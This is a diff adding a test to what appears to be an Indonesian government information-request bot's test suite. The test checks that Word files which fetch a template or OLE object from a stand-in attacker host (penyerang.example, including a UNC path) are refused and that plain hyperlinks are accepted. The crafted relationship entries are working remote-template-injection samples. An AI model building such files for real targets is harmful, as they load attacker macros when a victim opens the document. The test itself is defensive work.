@@ -28,7 +28,7 @@ from tests.bot.cycle_helpers import (
 )
 from tests.conftest import ADMIN_ID, CHANNEL_ID
 from tests.bot.test_nothing_wrong_public import LEGAL_BASIS, draft_sent_by_chat, grant, make_exempt_in_register
-from tests.samples import MINIMAL_PDF, unique_pdf
+from tests.samples import MINIMAL_PDF, make_docx, unique_pdf
 
 
 async def draft_rows(office: Office) -> int:
@@ -336,3 +336,46 @@ def test_the_csv_export_guards_a_formula_behind_the_locales_separator(separator:
     parts = row[0].split(separator)
     assert parts[0] == "Anggaran" and parts[1].startswith("'=HYPERLINK(") and parts[2:] == ["-5", "+5,x"]
     assert inspect_content(("a,b\n" + exported.split("\r\n", 1)[1]).encode()).reason != "formula"
+
+
+# -- point 5: an Office file that fetches code from elsewhere -------------------------------------
+
+SETTINGS_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
+    ' Target="{target}" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "part"),
+    [
+        # "Remote template injection": Word fetches the macro template when the file is opened.
+        ("attachedTemplate", "http://penyerang.example/tpl.dotm", "word/_rels/settings.xml.rels"),
+        ("oleObject", "http://penyerang.example/x.rtf", "word/_rels/document.xml.rels"),
+        ("attachedTemplate", "\\\\penyerang.example\\share\\tpl.dotm", "word/_rels/settings.xml.rels"),
+    ],
+    ids=["remote-template", "remote-ole-object", "unc-template"],
+)
+async def test_a_docx_that_loads_a_template_or_object_from_elsewhere_is_refused(
+    office: Office, kind: str, target: str, part: str
+) -> None:
+    """No vbaProject.bin, a plain Word content type: the macro comes from a server when PPID Utama
+    (or anyone reading the channel) opens it. A hyperlink, the one harmless external target, is
+    still accepted."""
+    await waiting_for_draft(office)
+    putri = office.pelaksana
+    hostile = make_docx(extra_entries=((part, SETTINGS_RELS.format(kind=kind, target=target)),))
+    putri.send_document(hostile, "laporan.docx")
+    await office.deliver()
+    assert "mengambil isi dari luar" in putri.last_text()
+    assert await draft_rows(office) == 0
+    linked = make_docx(
+        extra_entries=(
+            ("word/_rels/document.xml.rels", SETTINGS_RELS.format(kind="hyperlink", target="https://ppid.example.go.id/")),
+        )
+    )
+    putri.send_document(linked, "laporan.docx")
+    await office.deliver()
+    assert "Versi 1 kini berisi 1 berkas." in putri.last_text()
